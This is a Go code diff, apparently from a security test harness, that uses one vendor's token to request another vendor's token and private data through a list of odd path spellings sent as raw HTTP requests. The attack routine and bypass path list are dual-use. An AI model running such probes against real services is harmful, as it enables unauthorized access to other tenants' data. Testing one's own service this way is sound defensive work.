@@ -10,7 +10,7 @@ import (
 )
 
 // tokens asks for the token of the vendor v2 with a token of v1, by every spelling of the path that somebody may have overlooked.
-type tokens struct{ prepared bool }
+type tokens struct{ own string }
 
 // tokenPaths lead, as written or decoded, to the authorization of the vendor v2, or to what only v2 may see.
 var tokenPaths = []string{
@@ -40,24 +40,32 @@ var tokenPaths = []string{
 	"/public/v1/modal-service//vendors/v2/default-budget",
 }
 
-func (t *tokens) Attack(ctx context.Context, e *Env) error {
-	if !t.prepared {
-		if err := makeVendor(ctx, e); err != nil {
-			return err
-		}
-		t.prepared = true
+func (t *tokens) Prepare(ctx context.Context, e *Env) error {
+	if err := makeVendor(ctx, e); err != nil {
+		return err
 	}
+	return t.renew(ctx, e)
+}
+
+// renew gets a token of v1, which lives for an hour.
+func (t *tokens) renew(ctx context.Context, e *Env) error {
 	answer, err := e.API.Need(ctx, "GET", public+"/modal-service/auth/vendors/v1", nil)
 	if err != nil {
 		return err
 	}
 	var own struct{ AuthToken string }
-	if err := json.Unmarshal(answer, &own); err != nil {
-		return err
+	err = json.Unmarshal(answer, &own)
+	t.own = own.AuthToken
+	return err
+}
+
+func (t *tokens) Attack(ctx context.Context, e *Env) error {
+	if err := t.renew(ctx, e); err != nil {
+		e.Tally.note(err) // The token of the window before is still good.
 	}
 	for i := 0; pause(ctx, 100*time.Millisecond); i++ {
 		path := tokenPaths[i%len(tokenPaths)]
-		request := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", path, own.AuthToken)
+		request := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", path, t.own)
 		answer, _, err := e.raw(ctx, e.Target.Manage, []byte(request), 2*time.Second)
 		e.Tally.Add("sent", 1)
 		status := statusOf(answer)
